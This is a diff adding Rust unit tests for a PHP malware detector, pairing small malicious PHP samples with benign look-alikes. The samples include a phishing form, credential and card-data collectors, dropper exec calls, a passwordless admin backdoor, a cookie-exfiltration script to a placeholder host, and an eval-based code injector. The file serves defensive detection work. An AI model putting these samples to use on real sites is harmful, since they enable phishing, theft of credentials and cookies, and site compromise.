@@ -1,0 +1,370 @@
+//! Tests of [`super`]: each family with its own minimal shape, a clean near-miss, and its fixture.
+
+use super::*;
+use crate::php;
+
+fn whys_of(src: &str) -> Vec<(Why, Danger)> {
+    let t = php::tokenize(src.as_bytes(), 100_000);
+    analyze(src.as_bytes(), &t, Options { small: t.len() < 400 }).into_iter().map(|s| (s.why, s.danger)).collect()
+}
+
+fn found(src: &str) -> Vec<Why> {
+    let t = php::tokenize(src.as_bytes(), 100_000);
+    analyze(src.as_bytes(), &t, Options { small: t.len() < 400 }).into_iter().map(|s| s.why).collect()
+}
+
+#[test]
+fn a_login_page_that_greets_the_linked_address_is_phishing() {
+    let direct = "<form action=\"next.php\" method=\"post\"><input name=\"e\" value=\"<?=$_GET['email']?>\">\
+                  <input type=\"password\" name=\"p\"></form>";
+    assert_eq!(found(direct), [Why::PhishingPage]);
+    let decoded = "<?php $who = base64_decode($_REQUEST['u']); ?><form action=\"go.php\">\
+                   <input value=\"<?php echo $who; ?>\"><input type='password' name='p'></form>";
+    assert_eq!(found(decoded), [Why::PhishingPage]);
+}
+
+#[test]
+fn an_escaped_or_own_login_form_is_not_phishing() {
+    // The address escaped, as a site's own login or reset form does.
+    let escaped = "<?php $who = htmlspecialchars($_GET['email']); ?><form method=\"post\">\
+                   <input value=\"<?php echo $who; ?>\"><input type=\"password\" name=\"p\"></form>";
+    assert!(found(escaped).is_empty());
+    let wp = "<input type=\"text\" name=\"log\" value=\"<?php echo esc_attr( $user_login ); ?>\">\
+              <input type=\"password\" name=\"pwd\">";
+    assert!(found(wp).is_empty());
+    // A search box that shows what was searched for has no password field.
+    assert!(found("<form><input name=\"q\" value=\"<?=$_GET['user']?>\"></form>").is_empty());
+    // A value of the page's own (not from the link).
+    let own = "<?php $user = $row['login']; ?><input value=\"<?=$user?>\"><input type=\"password\">";
+    assert!(found(own).is_empty());
+}
+
+#[test]
+fn credentials_passed_through_variables_and_sent_away_are_collected() {
+    let mailed = "<?php $e = $_POST['login']; $p = trim($_POST['passwd']);\n\
+                  $m = \"User: $e\\nPass: $p\\n\"; mail('drop@example.net', 'log', $m);\n\
+                  header('Location: https://mail.example.com/');";
+    assert_eq!(found(mailed), [Why::CredentialCollector]);
+    // Numbered form fields, named by the variables; stored and the visitor sent on.
+    let stored = "<?php $email = $_POST['1']; $password = $_POST['2'];\n\
+                  $line = 'Email: ' . $email . ' | Password: ' . $password;\n\
+                  file_put_contents('r.txt', $line, FILE_APPEND);\n\
+                  echo \"<script>window.location.href='https://outlook.example.com';</script>\";";
+    assert_eq!(found(stored), [Why::CredentialCollector]);
+}
+
+#[test]
+fn a_welcome_mail_or_an_installer_is_not_a_collector() {
+    // The new member's own password mailed to their own address.
+    let welcome = "<?php $u = $_POST['user']; $p = $_POST['pass']; $to = $_POST['email'];\n\
+                   mail($to, 'Welcome', \"Username: $u\\nPassword: $p\\n\"); header('Location: login.php');";
+    assert!(found(welcome).is_empty());
+    // An installer writing its settings, then its own next step.
+    let installer = format!(
+        "<?php {} $user = $_POST['db_user']; $pass = $_POST['db_pass'];\n\
+         file_put_contents('.env', \"DB_USER=$user\\nDB_PASSWORD=$pass\\n\"); header('Location: step3.php');",
+        "$a = 1; ".repeat(150)
+    );
+    assert!(found(&installer).is_empty());
+}
+
+#[test]
+fn a_program_made_executable_and_started_is_a_dropper() {
+    assert_eq!(found("<?php chmod('kw', 0755); exec('./kw -c x >/dev/null 2>&1');"), [Why::StartsProgram]);
+    assert_eq!(found("<?php shell_exec('cd /tmp; ./miner --bg &');"), [Why::StartsProgram]);
+    assert_eq!(found("<?php echo `nohup ./b.pl >/dev/null`;"), [Why::StartsProgram]);
+}
+
+#[test]
+fn an_application_calling_a_system_program_is_not_a_dropper() {
+    assert!(found("<?php exec('/usr/bin/convert ' . escapeshellarg($f) . ' out.png');").is_empty());
+    // Made readable only, and run in the foreground.
+    assert!(found("<?php chmod('cache', 0644); exec('./bin/build --check', $out);").is_empty());
+    // A help text naming a command is not a call.
+    assert!(found("<?php echo 'Run ./install.sh & wait';").is_empty());
+}
+
+#[test]
+fn a_page_watching_its_own_listing_is_found() {
+    let src = "<?php $r = file_get_contents('https://safebrowsing.example/check?site=' . $_SERVER['HTTP_HOST']);\n\
+               if (strpos($r, 'listed')) { exit; } header('Location: https://pills.example/');";
+    assert_eq!(found(src), [Why::ChecksBlocklists]);
+}
+
+#[test]
+fn a_blocklist_lookup_of_visitors_or_mail_is_not() {
+    // An anti-spam plugin asks about the commenter's address, not its own site.
+    let comments = "<?php $h = gethostbyname(implode('.', array_reverse(explode('.', $ip))) . '.zen.spamhaus.org');\n\
+                    if ($h === '127.0.0.2') { exit; }";
+    assert!(found(comments).is_empty());
+    // A settings page linking to the service.
+    assert!(found("<?php echo '<a href=\"https://transparencyreport.google.com/\">Check</a>'; exit;").is_empty());
+}
+
+#[test]
+fn a_login_without_a_password_is_a_backdoor() {
+    let src = "<?php require 'wp-load.php'; $u = get_users(array('role' => 'administrator'));\n\
+               wp_set_current_user($u[0]->ID); wp_set_auth_cookie($u[0]->ID); wp_redirect(admin_url()); exit;";
+    assert_eq!(found(src), [Why::AdminBackdoor]);
+}
+
+#[test]
+fn a_plugins_login_is_not_a_backdoor() {
+    // Inside the plugin's function, run when WordPress calls it.
+    let hooked = "<?php function my_sso_login($id) { wp_set_auth_cookie($id, true); }";
+    assert!(found(hooked).is_empty());
+    // A script that checks the password first.
+    let checked = "<?php $u = get_user_by('login', $_POST['log']);\n\
+                   if ($u && wp_check_password($_POST['pwd'], $u->user_pass, $u->ID)) { wp_set_auth_cookie($u->ID); }";
+    assert!(found(checked).is_empty());
+}
+
+#[test]
+fn a_mailer_looping_over_typed_addresses_is_found() {
+    let src = "<?php if ($_POST['go']) { $list = explode(\"\\n\", $_POST['to']);\n\
+               foreach ($list as $one) { mail(trim($one), $_POST['subj'], $_POST['text'], 'From: ' . $_POST['from']); } }";
+    assert_eq!(found(src), [Why::MailFromInput]);
+}
+
+#[test]
+fn a_contact_form_or_a_newsletter_is_not_a_mailer() {
+    // The site's own address, the visitor's text: a contact form.
+    let contact =
+        "<?php foreach ($admins as $a) { mail($a, 'Contact', $_POST['message'], 'Reply-To: ' . $_POST['email']); }";
+    assert!(found(contact).is_empty());
+    // Subscribers from the database, the text from the form.
+    let news = "<?php $rows = $db->query('SELECT email FROM subscribers');\n\
+                foreach ($rows as $r) { mail($r['email'], $_POST['subject'], $_POST['body']); }";
+    assert!(found(news).is_empty());
+    // A copy sent to the visitor once.
+    assert!(found("<?php mail($_POST['email'], 'Thanks', 'We got your message.');").is_empty());
+}
+
+#[test]
+fn writing_a_handler_for_invented_endings_plants_config() {
+    let src = "<?php $h = fopen('.htaccess', 'w');\nfwrite($h, \"Options +ExecCGI\\nAddHandler cgi-script .xyz\\n\");";
+    assert_eq!(found(src), [Why::PlantsServerConfig]);
+    let heredoc =
+        "<?php $c = <<<EOT\nAddType application/x-httpd-php .png\nEOT;\nfile_put_contents('img/.htaccess', $c);";
+    assert_eq!(found(heredoc), [Why::PlantsServerConfig]);
+}
+
+#[test]
+fn a_cache_or_security_plugin_writing_htaccess_does_not_plant_config() {
+    // Fonts and compressed files given their types; PHP switched off in uploads.
+    let cache = "<?php file_put_contents($dir . '/.htaccess', \"AddType font/woff2 .woff2\\nAddType text/css .css\\n\
+                 AddEncoding gzip .gz\\n\");";
+    assert!(found(cache).is_empty());
+    let guard = "<?php file_put_contents($up . '/.htaccess', \"<Files *.php>\\ndeny from all\\n</Files>\\n\
+                 php_flag engine off\\nSetHandler none\\n\");";
+    assert!(found(guard).is_empty());
+    // A host's PHP version line for PHP files.
+    let version = "<?php file_put_contents('.htaccess', \"AddHandler application/x-httpd-php81 .php\\n\");";
+    assert!(found(version).is_empty());
+}
+
+#[test]
+fn a_page_loading_a_kits_visitor_filter_is_found() {
+    let two = "<?php include 'filters/anti2.php'; require_once('./guard/blocker.php'); ?><html>Sign in</html>";
+    assert_eq!(found(two), [Why::PhishingBotFilter]);
+    let one = "<?php require 'Bots/check.php'; $ip = $_SERVER['REMOTE_ADDR']; header('Location: step2.php');";
+    assert_eq!(whys_of(one), [(Why::PhishingBotFilter, Danger::Medium)]);
+}
+
+#[test]
+fn an_applications_includes_are_not_a_visitor_filter() {
+    // Words inside names, and a spam filter's class loaded without reading the visitor.
+    let app = "<?php require 'lib/antispam.php'; include 'robotstxt.php'; include 'inc/blacklist.php'; echo 'ok';";
+    assert!(found(app).is_empty());
+}
+
+#[test]
+fn a_script_sending_the_visitors_cookies_away_is_found() {
+    let src = "<?php echo \"<script>document.location='log.php?c='+document.cookie;</script>\";";
+    assert_eq!(found(src), [Why::StealsCookies]);
+    let img = "<script>new Image().src = 'https://x.example/c.gif?d=' + escape(document.cookie);</script><?php ?>";
+    assert_eq!(found(img), [Why::StealsCookies]);
+}
+
+#[test]
+fn reading_or_setting_cookies_in_script_is_not_theft() {
+    let consent = "<script>if (document.cookie.indexOf('ok=1') < 0) { location.href = '/consent?back=' + location.pathname; }\
+                   document.cookie = 'ok=1; path=/';</script><?php ?>";
+    assert!(found(consent).is_empty());
+}
+
+#[test]
+fn code_put_back_from_a_picture_is_a_restorer() {
+    let src = "<?php $keep = './wp-admin/images/a.png'; $to = './cache/index.php';\n\
+               if (!file_exists($to)) { @file_put_contents($to, file_get_contents($keep)); }";
+    assert_eq!(found(src), [Why::RestoresFromDisguise]);
+    assert_eq!(found("<?php copy('img/bg.gif', '.htaccess');"), [Why::RestoresFromDisguise]);
+}
+
+#[test]
+fn copying_pictures_or_templates_is_not_a_restorer() {
+    assert!(found("<?php copy('logo.png', 'uploads/logo.png');").is_empty());
+    assert!(found("<?php file_put_contents('cache/page.php', file_get_contents('tpl/page.tpl'));").is_empty());
+    assert!(found("<?php file_put_contents($thumb, file_get_contents($url));").is_empty());
+}
+
+#[test]
+fn mail_to_a_hidden_address_is_a_skimmer() {
+    let decoded = "<?php $card = $order->getCard(); mail(base64_decode('Ym94QG1haWwuZXhhbXBsZQ=='), 'card', $card);";
+    assert_eq!(found(decoded), [Why::HiddenMailRecipient]);
+    let assembled = "<?php $t = array('b','o','x','@','m'); $to = $t[0] . $t[1] . $t[2] . $t[3] . $t[4] . '.example';\n\
+                     mail($to, 'new', $data);";
+    assert_eq!(found(assembled), [Why::HiddenMailRecipient]);
+}
+
+#[test]
+fn mail_to_a_configured_or_looked_up_address_is_not_hidden() {
+    assert!(found("<?php mail($config['admin_email'], 'Order', $body);").is_empty());
+    // The subject encoded for mail headers is not the recipient.
+    assert!(found("<?php mail($to, '=?UTF-8?B?' . base64_encode($s) . '?=', $b);").is_empty());
+    assert!(found("<?php $to = $row['first'] . '@' . $row['domain']; mail($to, 'Hi', $b);").is_empty());
+}
+
+#[test]
+fn writing_hidden_code_into_files_plants_a_backdoor() {
+    let src = "<?php $p = '<?php @eval(base64_decode(\"ZWNobyAxOw==\")); ?>';\n\
+               foreach (glob('../*/index.php') as $f) { file_put_contents($f, $p . file_get_contents($f)); }";
+    assert_eq!(found(src), [Why::InjectsHiddenCode]);
+}
+
+#[test]
+fn writing_ordinary_php_is_not_planting() {
+    // A cache plugin's header, an installer's settings file.
+    let cache = "<?php file_put_contents($f, '<?php exit; ?>' . serialize($data));";
+    assert!(found(cache).is_empty());
+    let config = "<?php file_put_contents('config.php', \"<?php\\ndefine('DB', '\" . addslashes($db) . \"');\\n\");";
+    assert!(found(config).is_empty());
+    // Documentation that shows the shape, never written.
+    assert!(found("<?php echo htmlspecialchars('<?php eval(base64_decode($x)); ?>');").is_empty());
+}
+
+#[test]
+fn a_file_manager_anyone_can_open_is_a_shell() {
+    let src = "<?php $d = isset($_GET['d']) ? $_GET['d'] : '.';\n\
+               if (isset($_POST['rm'])) { unlink($_POST['rm']); }\n\
+               if (isset($_POST['from'])) { rename($_POST['from'], $_POST['to']); }\n\
+               foreach (scandir($d) as $e) { echo \"<a href='?d=$d/$e'>$e</a><br>\"; }";
+    assert_eq!(found(src), [Why::FileManagerShell]);
+}
+
+#[test]
+fn an_applications_file_manager_is_not_a_shell() {
+    let body = "if (isset($_POST['rm'])) { unlink($_POST['rm']); }\n\
+                if (isset($_POST['from'])) { rename($_POST['from'], $_POST['to']); }\n\
+                foreach (scandir($dir) as $e) { echo $e; }";
+    // Behind the application's permission check.
+    assert!(found(&format!("<?php if (!current_user_can('manage_options')) {{ exit; }}\n{body}")).is_empty());
+    // A class's method, run when the application calls it.
+    assert!(
+        found(&format!("<?php class Files extends Controller {{ function manage($dir) {{ {body} }} }}")).is_empty()
+    );
+    // A library's functions, run by the application that loads them.
+    assert!(found(&format!("<?php function media_delete($dir) {{ {body} }}")).is_empty());
+    // Deleting the visitor's own cached file by a fixed name is not managing files.
+    assert!(found("<?php unlink('cache/' . md5($key)); foreach (glob('cache/*') as $f) { echo $f; }").is_empty());
+}
+
+#[test]
+fn sending_visitors_to_a_random_other_site_is_a_redirector() {
+    let src = "<?php $to = array('https://a.example/offer', 'https://b.example/win');\n\
+               header('Location: ' . $to[array_rand($to)]); exit;";
+    assert_eq!(found(src), [Why::TrafficRedirector]);
+}
+
+#[test]
+fn a_fixed_redirect_or_a_random_banner_is_not_a_redirector() {
+    assert!(found("<?php header('Location: https://www.shop.example/'); exit;").is_empty());
+    let banner = "<?php $ads = array('https://cdn.example/a.png', 'https://cdn.example/b.png');\n\
+                  echo '<img src=\"' . $ads[array_rand($ads)] . '\">';";
+    assert!(found(banner).is_empty());
+    // A random page of the site itself.
+    let own = "<?php $pages = array('/a', '/b'); header('Location: ' . $pages[mt_rand(0, 1)]);";
+    assert!(found(own).is_empty());
+}
+
+/// The own-written fixtures of these families (the integration test sweeps them all) are
+/// reported for their family through `detect::judge`.
+#[test]
+fn each_fixture_is_reported_for_its_family() {
+    let cases: &[(&str, &str, Why)] = &[
+        (
+            "phishing_login_greets_link_address.php",
+            include_str!("../../../../tests/fixtures/sweep/malicious/phishing_login_greets_link_address.php"),
+            Why::PhishingPage,
+        ),
+        (
+            "collector_through_variables.php",
+            include_str!("../../../../tests/fixtures/sweep/malicious/collector_through_variables.php"),
+            Why::CredentialCollector,
+        ),
+        (
+            "starts_dropped_program.php",
+            include_str!("../../../../tests/fixtures/sweep/malicious/starts_dropped_program.php"),
+            Why::StartsProgram,
+        ),
+        (
+            "watches_own_blocklisting.php",
+            include_str!("../../../../tests/fixtures/sweep/malicious/watches_own_blocklisting.php"),
+            Why::ChecksBlocklists,
+        ),
+        (
+            "login_as_admin_without_password.php",
+            include_str!("../../../../tests/fixtures/sweep/malicious/login_as_admin_without_password.php"),
+            Why::AdminBackdoor,
+        ),
+        (
+            "mailer_loops_over_typed_list.php",
+            include_str!("../../../../tests/fixtures/sweep/malicious/mailer_loops_over_typed_list.php"),
+            Why::MailFromInput,
+        ),
+        (
+            "writes_cgi_handler_htaccess.php",
+            include_str!("../../../../tests/fixtures/sweep/malicious/writes_cgi_handler_htaccess.php"),
+            Why::PlantsServerConfig,
+        ),
+        (
+            "kit_page_loads_visitor_filter.php",
+            include_str!("../../../../tests/fixtures/sweep/malicious/kit_page_loads_visitor_filter.php"),
+            Why::PhishingBotFilter,
+        ),
+        (
+            "cookie_thief_redirect.php",
+            include_str!("../../../../tests/fixtures/sweep/malicious/cookie_thief_redirect.php"),
+            Why::StealsCookies,
+        ),
+        (
+            "restores_code_from_picture.php",
+            include_str!("../../../../tests/fixtures/sweep/malicious/restores_code_from_picture.php"),
+            Why::RestoresFromDisguise,
+        ),
+        (
+            "skimmer_hidden_recipient.php",
+            include_str!("../../../../tests/fixtures/sweep/malicious/skimmer_hidden_recipient.php"),
+            Why::HiddenMailRecipient,
+        ),
+        (
+            "injector_plants_eval.php",
+            include_str!("../../../../tests/fixtures/sweep/malicious/injector_plants_eval.php"),
+            Why::InjectsHiddenCode,
+        ),
+        (
+            "open_file_manager.php",
+            include_str!("../../../../tests/fixtures/sweep/malicious/open_file_manager.php"),
+            Why::FileManagerShell,
+        ),
+        (
+            "random_traffic_redirector.php",
+            include_str!("../../../../tests/fixtures/sweep/malicious/random_traffic_redirector.php"),
+            Why::TrafficRedirector,
+        ),
+    ];
+    for (name, src, why) in cases {
+        let hits = crate::detect::judge(&format!("lib/{name}"), name, src.as_bytes(), &[]);
+        assert!(hits.iter().any(|h| h.why == *why), "{name}: {hits:?}");
+    }
+}
